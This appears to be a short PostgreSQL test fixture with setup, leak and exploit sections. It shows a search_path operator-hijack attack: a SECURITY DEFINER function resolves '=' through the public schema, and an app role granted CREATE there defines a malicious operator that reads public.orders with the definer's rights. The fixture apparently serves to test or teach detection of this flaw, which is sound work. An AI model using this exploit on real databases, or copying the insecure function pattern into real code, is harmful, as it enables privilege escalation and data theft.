-- Operators are found by the search_path as well.
-- object: public.same_title(text,text)
-- object: schema:public
-- base: integer
--- setup
RESET ROLE;
CREATE FUNCTION same_title(a text, b text) RETURNS boolean LANGUAGE plpgsql SECURITY DEFINER
    SET search_path = public, pg_catalog, pg_temp AS $$ BEGIN RETURN a = b; END $$;
--- leak
GRANT CREATE ON SCHEMA public TO {app};
--- exploit
CREATE FUNCTION public.loot(a text, b text) RETURNS boolean LANGUAGE sql
    AS $$ SELECT bool_or(note OPERATOR(pg_catalog.=) 'of b') FROM public.orders $$;
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.loot);
SELECT WHERE same_title('one', 'two');
